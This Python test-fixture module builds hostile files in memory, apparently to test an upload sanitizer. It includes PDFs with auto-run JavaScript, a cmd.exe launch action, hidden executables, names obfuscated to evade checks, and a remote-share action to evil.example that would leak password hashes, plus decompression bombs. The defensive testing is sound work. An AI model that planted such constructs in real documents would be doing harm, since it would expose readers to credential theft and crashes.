"""Malicious files, made in memory for tests: none is stored in the repository."""

import io
import struct
import zipfile
import zlib

import pillow_heif
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
    create_string_object,
)

pillow_heif.register_heif_opener()


def picture(format: str = "JPEG", size: tuple[int, int] = (64, 48), **options) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(out, format, **options)
    return out.getvalue()


def photo_with_place() -> bytes:
    """Return a JPEG with the place and the author in its metadata, and a rotation flag."""
    exif = Image.Exif()
    exif[0x0112], exif[0x013B], exif[0x010F] = 6, "Secret Author", "Phone"
    exif.get_ifd(0x8825)[1] = "N"
    return picture(size=(80, 40), exif=exif, comment=b"hidden words")


def pdf(change=None, pages: int = 1) -> bytes:
    """Return a plain PDF; `change(writer)` adds what must not be there."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_script() -> bytes:
    def script(writer):
        action = {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(action))

    return pdf(script)


def pdf_with_file() -> bytes:
    return pdf(lambda writer: writer.add_attachment("a.exe", b"MZ"))


def pdf_with_password() -> bytes:
    return pdf(lambda writer: writer.encrypt("secret", algorithm="RC4-128"))


def pdf_launching() -> bytes:
    def launch(writer):
        action = {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): create_string_object("cmd.exe")}
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(action))

    return pdf(launch)


def pdf_launching_by_a_reference() -> bytes:
    """Return a PDF with the word «Launch» stored in an object of its own."""

    def launch(writer):
        word = writer._add_object(NameObject("/Launch"))
        action = {NameObject("/S"): word, NameObject("/F"): create_string_object("cmd.exe")}
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(action))

    return pdf(launch)


def pdf_with_escaped_name() -> bytes:
    return pdf_with_script().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")


def pdf_with_orphan_script() -> bytes:
    """Return a PDF with a script no page refers to, which some viewers still find."""
    return pdf(
        lambda writer: writer._add_object(
            DictionaryObject(
                {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x()")}
            )
        )
    )


def pdf_of_many_parts() -> bytes:
    """Return a PDF of a few megabytes that takes a quarter of a minute to parse."""

    def crowd(writer):
        many = ArrayObject([NumberObject(1)] * 90_000)
        for _ in range(20):
            writer._add_object(DictionaryObject({NameObject("/A"): many}))

    return pdf(crowd)


def pdf_bomb(size: int = 300 * 1024 * 1024) -> bytes:
    """Return a PDF with a page whose content unpacks to hundreds of megabytes."""
    packer, packed = zlib.compressobj(9), b""
    for _ in range(size // (1 << 20)):
        packed += packer.compress(b" " * (1 << 20))
    packed += packer.flush()

    def bomb(writer):
        stream = DecodedStreamObject()
        stream[NameObject("/Filter")] = NameObject("/FlateDecode")
        stream._data = packed
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)

    return pdf(bomb)


def png_bomb(side: int = 30_000) -> bytes:
    """Return a small PNG that claims to be 900 megapixels."""
    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    body = zlib.compress(b"\0" * 100_000, 9)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in ((b"IHDR", head), (b"IDAT", body), (b"IEND", b""))
    )


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("inside.txt", "x" * 100)
    return out.getvalue()


def pdf_with_file_note() -> bytes:
    """Return a PDF with a program in a page annotation, missing from the document's table of files."""

    def clip(writer):
        stream = DecodedStreamObject()
        stream.set_data(b"MZ-program")
        stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
        inside = DictionaryObject({NameObject("/F"): writer._add_object(stream)})
        spec = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Filespec"),
                NameObject("/F"): create_string_object("a.exe"),
                NameObject("/EF"): inside,
            }
        )
        note(writer, {NameObject("/Subtype"): NameObject("/FileAttachment"), NameObject("/FS"): spec})

    return pdf(clip)


def pdf_with_associated_file() -> bytes:
    """Return a PDF with /AF in its catalogue: a file that no list of attachments shows."""

    def associated(writer):
        stream = DecodedStreamObject()
        stream.set_data(b"MZ-program")
        stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
        inside = DictionaryObject({NameObject("/F"): writer._add_object(stream)})
        spec = DictionaryObject({NameObject("/Type"): NameObject("/Filespec"), NameObject("/EF"): inside})
        writer._root_object[NameObject("/AF")] = ArrayObject([writer._add_object(spec)])

    return pdf(associated)


def pdf_going_to_a_share() -> bytes:
    """Return a PDF that opens a document on a remote share, which would receive the reader's name and
    password hash.
    """

    def share(writer):
        there = {
            NameObject("/S"): NameObject("/GoToR"),
            NameObject("/F"): create_string_object("\\\\evil.example\\share\\a.pdf"),
        }
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(there))
        writer._root_object[NameObject("/AA")] = DictionaryObject(
            {NameObject("/WC"): DictionaryObject(there)}
        )

    return pdf(share)


def pdf_with_link() -> bytes:
    def link(writer):
        there = {
            NameObject("/S"): NameObject("/URI"),
            NameObject("/URI"): create_string_object("https://evil.example"),
        }
        note(writer, {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): DictionaryObject(there)})

    return pdf(link)


def pdf_with_film() -> bytes:
    return pdf(lambda writer: note(writer, {NameObject("/Subtype"): NameObject("/RichMedia")}))


def note(writer, what: dict) -> None:
    """Add an annotation to the first page."""
    box = ArrayObject([NumberObject(n) for n in (0, 0, 200, 200)])
    one = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Rect"): box} | what)
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(one)])


def pdf_bomb_in_two_codings(size: int = 1 << 30) -> bytes:
    """Return the same bomb with its packed bytes in hex: a check of one encoding misses the other."""
    packer, packed = zlib.compressobj(9), b""
    for _ in range(size // (1 << 20)):
        packed += packer.compress(b" " * (1 << 20))
    packed = (packed + packer.flush()).hex().encode() + b">"

    def bomb(writer):
        stream = DecodedStreamObject()
        stream[NameObject("/Filter")] = ArrayObject(
            [NameObject("/ASCIIHexDecode"), NameObject("/FlateDecode")]
        )
        stream._data = packed
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)

    return pdf(bomb)


def pdf_of_a_scan(shade: int = 40, size: tuple[int, int] = (620, 877)) -> bytes:
    """Return a PDF with one picture, as a scanner makes: grey, with a dark bar in place of text."""
    sheet = Image.new("L", size, 250)
    sheet.paste(shade, (60, 100, size[0] - 60, 160))
    out = io.BytesIO()
    sheet.save(out, "PDF", resolution=75)
    return out.getvalue()


def grey_of_sixteen_bits(low: int = 6_000, high: int = 60_000) -> bytes:
    """Return a scan of sixteen bits of grey, as some scanners write it."""
    pixels = struct.pack("<H", low) * (200 * 20) + struct.pack("<H", high) * (200 * 100)
    sheet = Image.frombytes("I;16", (200, 120), pixels)
    out = io.BytesIO()
    sheet.save(out, "PNG")
    return out.getvalue()


def pdf_with_filled_field() -> bytes:
    """Return a PDF whose typed form value is only in the field's appearance stream."""

    def field(writer):
        look = DecodedStreamObject()
        look.set_data(b"0 g 0 0 80 40 re f")
        look[NameObject("/Type")], look[NameObject("/Subtype")] = NameObject("/XObject"), NameObject("/Form")
        look[NameObject("/BBox")] = ArrayObject([NumberObject(n) for n in (0, 0, 160, 40)])
        named = {
            NameObject("/FT"): NameObject("/Tx"),
            NameObject("/T"): create_string_object("name"),
            NameObject("/V"): create_string_object("Anna"),
            NameObject("/F"): NumberObject(4),
            NameObject("/AP"): DictionaryObject({NameObject("/N"): writer._add_object(look)}),
        }
        note(writer, {NameObject("/Subtype"): NameObject("/Widget")} | named)
        fields = ArrayObject(
            [writer.pages[0]["/Annots"][0].indirect_reference or writer.pages[0]["/Annots"].raw_get(0)]
        )
        writer._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): fields})

    return pdf(field)
